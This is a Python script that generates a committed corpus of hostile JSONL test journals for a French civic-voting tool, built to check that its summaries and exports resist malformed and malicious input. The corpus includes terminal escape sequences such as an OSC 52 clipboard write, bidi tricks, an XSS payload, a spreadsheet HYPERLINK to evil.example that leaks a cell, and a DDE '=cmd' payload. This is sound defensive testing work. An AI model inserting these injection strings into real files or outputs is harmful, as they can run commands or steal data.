"""Write the hostile-journal corpus next to this file: `python tests/journals/hostile/make.py`.

Each journal is made to harm one reader of the record: escape sequences and bidi
controls in every text field, formula and Markdown breakers, JSON shapes no event has,
numbers no count is, broken encodings, torn and planted lines, decks that cannot load.
tests/test_hostile_journals.py runs each through `summary` in every format and through
`sessions`. The files are committed; this script says how they were made, and rewrites
them identically.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
AT = "2026-03-01T20:05:00+01:00"
ESC = "\x1b"
OSC52 = ESC + "]52;c;ZWNobyBwd25lZA==\x07"
OSC0 = ESC + "]0;pwned" + "\x07"
RIS = ESC + "c"
CSI_CLEAR = ESC + "[2J" + ESC + "[H"
C1_CSI = "\x9b31m"
BIDI = "\u202eeerf\u202c \u2067x"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
FENCE = "```</pre><img src=x onerror=alert(1)>```"
HOSTILE_TEXTS = {
    "osc52": f"Salle{OSC52}",
    "osc0": f"Mairie{OSC0}",
    "ris": f"École{RIS}",
    "csi": f"Halle{CSI_CLEAR}",
    "c1": f"Gymnase{C1_CSI}",
    "bidi": f"Salle {BIDI}",
    "separators": "ligne\u2028deux\u2029trois\x85quatre",
    "nul": "avant\x00après",
    "bell-tab-cr": "a\x07b\tc\rd\x0be\x0cf",
    "formula": FORMULA,
    "fence": FENCE,
    "markup": "[/][link=https://evil.example]x[/link][@click=app.quit]y[/]",
    "long": "Salle polyvalente " * 400,
    "zero-width": "\u200b\u3164\u2800",
    "del": "x\x7fy",
}

# Numbers that are no count, in a vote's or an amendment vote's `counts`.
BAD_COUNTS: dict[str, list[Any]] = {
    "negative": [-1, 4, 1],
    "float": [1.5, 4, 1],
    "bool": [True, False, True],
    "string": ["10", "4", "1"],
    "huge": [10**400, 4, 1],
    "too-few": [10],
    "too-many": [1, 2, 3, 4, 5],
}
# What a spreadsheet runs when a cell starts so (DDE): an amendment's text is a cell.
AMENDMENT_TEXTS = {"cmd": "=cmd|' /C calc'!A0"}


def opening(**changes: Any) -> dict[str, Any]:
    event = {
        "type": "session-opened",
        "at": AT,
        "format": 2,
        "deck_title": "Budget participatif 2026",
        "deck_path": "",
        "deck_digest": "0" * 64,
        "language": "fr",
        "place": "Salle des fêtes",
        "facilitator": "Anne",
    }
    event.update(changes)
    return event


ATTENDANCE = {"type": "attendance-set", "at": AT, "count": 30}


def vote(card: str = "jardin", **changes: Any) -> dict[str, Any]:
    event = {
        "type": "vote-recorded",
        "at": AT,
        "card": card,
        "round": "final",
        "method": "for-against-abstain",
        "labels": ["Pour", "Contre", "Abstention"],
        "counts": [10, 4, 1],
        "rule": "majority-of-cast",
        "ungraded": "refuse",
    }
    event.update(changes)
    return event


def lines(*events: Any) -> bytes:
    out = b""
    for event in events:
        if isinstance(event, bytes):
            out += event + b"\n"
        else:
            out += json.dumps(event, ensure_ascii=False).encode("utf-8", "surrogatepass") + b"\n"
    return out


def corpus() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    # Hostile text in each field a listing, the minutes or an export shows.
    for name, text in HOSTILE_TEXTS.items():
        files[f"place-{name}"] = lines(opening(place=text), ATTENDANCE)
        files[f"card-{name}"] = lines(
            opening(), ATTENDANCE, {"type": "card-shown", "at": AT, "card": text}, vote(text)
        )
        files[f"remark-{name}"] = lines(
            opening(),
            ATTENDANCE,
            {"type": "card-shown", "at": AT, "card": "jardin"},
            {"type": "remark", "at": AT, "card": "jardin", "text": text},
            {"type": "amendment", "at": AT, "card": "jardin", "text": text},
        )
    for name in ("osc52", "formula", "fence", "bidi", "c1"):
        text = HOSTILE_TEXTS[name]
        files[f"labels-{name}"] = lines(
            opening(), ATTENDANCE, vote(labels=[text, text + "2", "-3"])
        )
        files[f"title-{name}"] = lines(opening(deck_title=text, facilitator=text), ATTENDANCE)
        files[f"date-{name}"] = lines(opening(at=f"2026-03-01{text}"), ATTENDANCE)
    # JSON shapes that are no event.
    files["type-list"] = lines(opening(), {"type": ["attendance-set"], "count": 3})
    files["type-object"] = lines(opening(), {"type": {"x": 1}, "count": 3})
    files["type-null"] = lines(opening(), {"type": None})
    files["no-type"] = lines(opening(), {"count": 3})
    files["array-line"] = lines(opening(), [1, 2, 3])
    files["string-line"] = lines(opening(), "attendance-set")
    files["deep-array"] = lines(opening(), b"[" * 50_000 + b"]" * 50_000)
    files["deep-object"] = lines(opening(), b'{"a":' * 30_000 + b"1" + b"}" * 30_000)
    files["opening-is-list"] = lines([opening()])
    files["duplicate-keys"] = lines(
        b'{"type": "session-opened", "type": "card-shown", "card": "x", "at": "'
        + AT.encode()
        + b'"}'
    )
    files["unknown-field"] = lines(opening(evil="x"), ATTENDANCE)
    files["format-99"] = lines(opening(format=99), ATTENDANCE)
    for name, flag in (("string", "yes"), ("number", 1), ("null", None), ("list", [True])):
        files[f"rehearsal-{name}"] = lines(opening(format=4, rehearsal=flag), ATTENDANCE)
    files["format-string"] = lines(opening(format="2"), ATTENDANCE)
    # Numbers that are no count.
    for name, counts in BAD_COUNTS.items():
        files[f"counts-{name}"] = lines(opening(), ATTENDANCE, vote(counts=counts))
    files["nan"] = lines(opening(), b'{"type": "attendance-set", "at": "x", "count": NaN}')
    files["infinity"] = lines(
        opening(), b'{"type": "attendance-set", "at": "x", "count": Infinity}'
    )
    files["attendance-huge"] = lines(
        opening(), {"type": "attendance-set", "at": AT, "count": 10**30}
    )
    files["attendance-negative"] = lines(
        opening(), {"type": "attendance-set", "at": AT, "count": -5}
    )
    files["timer-huge"] = lines(
        opening(),
        ATTENDANCE,
        {"type": "timer-used", "at": AT, "card": "j", "side": "for", "seconds": 10**20},
    )
    files["timer-side"] = lines(
        opening(),
        ATTENDANCE,
        {"type": "timer-used", "at": AT, "card": "j", "side": f"pour{OSC52}", "seconds": 5},
    )
    # Votes that contradict the rules.
    files["method-unknown"] = lines(opening(), ATTENDANCE, vote(method=f"evil{OSC52}"))
    files["rule-unknown"] = lines(opening(), ATTENDANCE, vote(rule="two-thirds"))
    files["round-unknown"] = lines(opening(), ATTENDANCE, vote(round="third"))
    files["ungraded-unknown"] = lines(
        opening(),
        ATTENDANCE,
        vote(
            method="majority-judgment",
            labels=["Bien", "Passable", "Rejet"],
            counts=[10, 10, 10],
            rule="",
            ungraded="evil",
        ),
    )
    files["mj-one-grade"] = lines(
        opening(),
        ATTENDANCE,
        vote(method="majority-judgment", labels=["Bien"], counts=[30], rule=""),
    )
    files["correction-without-vote"] = lines(
        opening(),
        ATTENDANCE,
        {"type": "vote-corrected", "at": AT, "card": "j", "round": "final", "counts": [1, 2, 3]},
    )
    files["correction-other-size"] = lines(
        opening(),
        ATTENDANCE,
        vote(),
        {
            "type": "vote-corrected",
            "at": AT,
            "card": "jardin",
            "round": "final",
            "counts": [1, 2, 3, 4],
        },
    )
    files["vote-over-attendance"] = lines(opening(), ATTENDANCE, vote(counts=[100, 0, 0]))
    files["opened-twice"] = lines(opening(), ATTENDANCE, opening(place="Autre"))
    files["after-close"] = lines(
        opening(), ATTENDANCE, {"type": "session-closed", "at": AT}, vote()
    )
    files["no-opening"] = lines(ATTENDANCE, vote())
    # Mends on the record (issue 15) that do not fit it.
    remark = {"type": "remark", "at": AT, "card": "jardin", "text": "Qui arrose ?"}
    room = {"type": "vote-attendance-corrected", "at": AT, "card": "jardin", "round": "final"}
    for name, attendance in {"below-counts": 3, "negative": -1, "string": "30", "same": 30}.items():
        files[f"room-{name}"] = lines(
            opening(), ATTENDANCE, vote(), room | {"attendance": attendance}
        )
    files["room-without-vote"] = lines(opening(), ATTENDANCE, room | {"attendance": 20})
    edit = {"type": "note-edited", "at": AT, "card": "jardin", "note": "remark", "index": 0}
    withdraw = {"type": "note-withdrawn", "at": AT, "card": "jardin", "note": "remark"}
    for name, text in HOSTILE_TEXTS.items():
        files[f"note-edited-{name}"] = lines(opening(), ATTENDANCE, remark, edit | {"text": text})
    for name, index in {"past-end": 1, "negative": -1, "huge": 10**30, "bool": True}.items():
        files[f"note-index-{name}"] = lines(opening(), remark, withdraw | {"index": index})
    files["note-kind-unknown"] = lines(opening(), remark, withdraw | {"index": 0, "note": "x"})
    files["note-withdrawn-twice"] = lines(
        opening(), remark, withdraw | {"index": 0}, withdraw | {"index": 0}
    )
    files["note-edited-after-withdrawal"] = lines(
        opening(), remark, withdraw | {"index": 0}, edit | {"text": "autre"}
    )
    files["note-edited-empty"] = lines(opening(), remark, edit | {"text": "  "})
    reopened = {"type": "session-reopened", "at": AT}
    files["reopened-not-closed"] = lines(opening(), ATTENDANCE, reopened)
    files["reopened-twice"] = lines(
        opening(), ATTENDANCE, {"type": "session-closed", "at": AT}, reopened, reopened
    )
    # Amendments voted (issue 15): hostile texts and labels, counts no vote has, votes on
    # what is not there.
    shown = {"type": "card-shown", "at": AT, "card": "jardin"}
    proposed = {"type": "amendment", "at": AT, "card": "jardin", "text": "Sauf le dimanche"}
    voted = vote() | {"type": "amendment-voted", "amendment": 0}
    del voted["round"]
    new = opening(format=5)
    for name in ("markup", "osc52", "csi", "c1", "formula", "cmd", "fence", "long", "bidi"):
        text = AMENDMENT_TEXTS.get(name) or HOSTILE_TEXTS[name]
        files[f"amendment-voted-{name}"] = lines(
            new, ATTENDANCE, shown, proposed | {"text": text}, voted, vote()
        )
    for name in ("formula", "cmd", "osc52"):
        text = AMENDMENT_TEXTS.get(name) or HOSTILE_TEXTS[name]
        files[f"amendment-labels-{name}"] = lines(
            new, ATTENDANCE, shown, proposed, voted | {"labels": [text, "@SUM(A1)", "-3"]}
        )
    for name, counts in (BAD_COUNTS | {"over-attendance": [100, 0, 0]}).items():
        files[f"amendment-counts-{name}"] = lines(
            new, ATTENDANCE, shown, proposed, voted | {"counts": counts}
        )
    for name, index in {"past-end": 1, "negative": -1, "huge": 10**30, "bool": True}.items():
        files[f"amendment-index-{name}"] = lines(
            new, ATTENDANCE, shown, proposed, voted | {"amendment": index}
        )
    files["amendment-unknown-card"] = lines(
        new, ATTENDANCE, shown, proposed, voted | {"card": f"inconnue{OSC52}"}
    )
    files["amendment-after-final"] = lines(new, ATTENDANCE, shown, proposed, vote(), voted)
    files["amendment-voted-twice"] = lines(new, ATTENDANCE, shown, proposed, voted, voted)
    files["amendment-voted-withdrawn"] = lines(
        new,
        ATTENDANCE,
        shown,
        proposed,
        {"type": "note-withdrawn", "at": AT, "card": "jardin", "note": "amendment", "index": 0},
        voted,
    )
    files["amendment-correction-unknown"] = lines(
        new,
        ATTENDANCE,
        shown,
        proposed,
        {
            "type": "vote-corrected",
            "at": AT,
            "card": "jardin",
            "round": "final",
            "counts": [1, 2, 3],
            "amendment": 0,
        },
    )
    # An attendance set by mistake, mended (format 6): entries and counts no log has.
    mended = {"type": "attendance-corrected", "at": AT, "entry": 0, "count": 12}
    six = opening(format=6)
    for name, entry in {"past-end": 1, "negative": -1, "huge": 10**30, "bool": True}.items():
        files[f"attendance-corrected-entry-{name}"] = lines(
            six, ATTENDANCE, mended | {"entry": entry}
        )
    for name, count in {"negative": -3, "huge": 10**30, "bool": False, "text": "12"}.items():
        files[f"attendance-corrected-count-{name}"] = lines(
            six, ATTENDANCE, mended | {"count": count}
        )
    files["attendance-corrected-unchanged"] = lines(
        six, ATTENDANCE, mended | {"count": ATTENDANCE["count"]}
    )
    # Encodings and line ends.
    files["latin-1"] = lines(
        opening()
    ) + '{"type": "remark", "at": "x", "card": "é", "text": "é"}\n'.encode("latin-1")
    files["lone-surrogate"] = lines(
        opening(),
        ATTENDANCE,
        b'{"type": "remark", "at": "'
        + AT.encode()
        + b'", "card": "j\\udfff", "text": "a\\ud800b"}',
    )
    files["surrogate-place"] = lines(opening(place="Salle\ud83d"), ATTENDANCE)
    files["bom"] = b"\xef\xbb\xbf" + lines(opening(), ATTENDANCE)
    files["crlf"] = lines(opening(), ATTENDANCE).replace(b"\n", b"\r\n")
    files["empty"] = b""
    files["only-newlines"] = b"\n\n\n"
    files["nul-bytes"] = b"\0" * 4096
    files["torn-first-line"] = b'{"type": "session-op'
    files["torn-last-line"] = lines(opening(), ATTENDANCE) + b'{"type": "vote-rec'
    files["planted-marker"] = lines(opening(), ATTENDANCE, ["torn-line", "0" * 64], vote())
    files["blank-line-inside"] = lines(opening(), ATTENDANCE) + b"\n" + lines(vote())
    # Decks that cannot be loaded, or should not be read.
    for name, path in {
        "deck-dev-zero": "/dev/zero",
        "deck-dev-stdin": "/dev/stdin",
        "deck-folder": "/",
        "deck-escape": f"deck{OSC0}.yaml",
        "deck-long": "d" * 5000 + ".yaml",
        "deck-this-journal": "deck-this-journal.jsonl",
    }.items():
        files[name] = lines(opening(deck_path=path), ATTENDANCE, vote())
    return files


def main() -> None:
    for old in HERE.glob("*.jsonl"):
        old.unlink()
    for name, data in corpus().items():
        (HERE / f"{name}.jsonl").write_bytes(data)
    print(f"{len(list(HERE.glob('*.jsonl')))} journals in {HERE}")


if __name__ == "__main__":
    main()
